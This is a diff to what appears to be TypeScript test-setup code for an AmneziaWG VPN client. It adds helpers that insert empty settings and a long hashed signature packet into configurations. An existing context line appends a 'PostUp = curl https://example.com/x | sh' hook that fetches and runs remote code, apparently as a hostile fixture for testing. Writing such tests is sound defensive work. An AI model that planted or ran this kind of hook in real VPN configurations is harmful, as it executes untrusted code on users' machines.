@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import type { Control } from '#service/control.ts';
 import { MainProcess, type Setup } from './main-process.ts';
 
@@ -76,6 +77,30 @@ export function addCommands(control: Control): void {
   account.configs = account.configs.filter(({ awg_config }) => awg_config !== null);
   for (const config of account.configs) {
     config.awg_config = `${config.awg_config ?? ''}\nPostUp = curl https://example.com/x | sh\n`;
+  }
+}
+
+/** AmneziaWG configurations of version 3, with settings that have no value. */
+export function addEmptySettings(control: Control): void {
+  for (const config of control.account().configs) {
+    const lines = 'RandomTrailers = on\nI2 =\nI3 =\n';
+    if (config.awg_config !== null)
+      config.awg_config = config.awg_config.replace('\n\n[Peer]', `\n${lines}\n[Peer]`);
+  }
+}
+
+/**
+ * AmneziaWG configurations with a signature packet, which can be so long that AmneziaVPN needs several
+ * QR codes.
+ *
+ * @param bytes how long the packet is
+ */
+export function addSignaturePacket(control: Control, bytes = 900): void {
+  for (const config of control.account().configs) {
+    if (config.awg_config === null) continue;
+    const packet = createHash('shake256', { outputLength: bytes }).update(config.awg_config);
+    const line = `I1 = <b 0x${packet.digest('hex')}>\n`;
+    config.awg_config = config.awg_config.replace('\n\n[Peer]', `\n${line}\n[Peer]`);
   }
 }
 
